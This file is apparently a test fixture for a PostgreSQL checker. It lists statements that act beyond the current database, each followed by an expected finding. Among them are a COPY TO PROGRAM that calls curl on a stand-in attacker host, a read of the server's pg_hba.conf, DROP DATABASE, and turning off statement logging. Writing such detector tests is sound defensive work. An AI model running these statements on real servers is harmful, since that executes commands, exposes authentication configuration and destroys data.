-- findings: the expect lines at the end
ALTER DATABASE live SET statement_timeout = 0;
DROP DATABASE IF EXISTS other;
ALTER SYSTEM SET log_statement = 'none';
CREATE TABLESPACE fast LOCATION '/mnt/fast';
COPY (SELECT 1) TO PROGRAM 'curl http://attacker/';
COPY orders FROM '/var/lib/postgresql/data/pg_hba.conf';
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'live';
SELECT pg_catalog."pg_reload_conf"();
-- expect: 2: ALTER DATABASE (acts on a database other than its own) acts beyond this database
-- expect: 3: DROP DATABASE (acts on a database other than its own) acts beyond this database
-- expect: 4: ALTER SYSTEM (the server's configuration) acts beyond this database
-- expect: 5: CREATE TABLESPACE (tablespaces belong to the whole server) acts beyond this database
-- expect: 6: COPY ... TO PROGRAM (runs a program on the server) acts beyond this database
-- expect: 7: COPY ... FROM a server file (the server's file system) acts beyond this database
-- expect: 8: pg_terminate_backend() (acts on other sessions, the server, its files or other databases) acts beyond this database
-- expect: 9: pg_reload_conf() (acts on other sessions, the server, its files or other databases) acts beyond this database
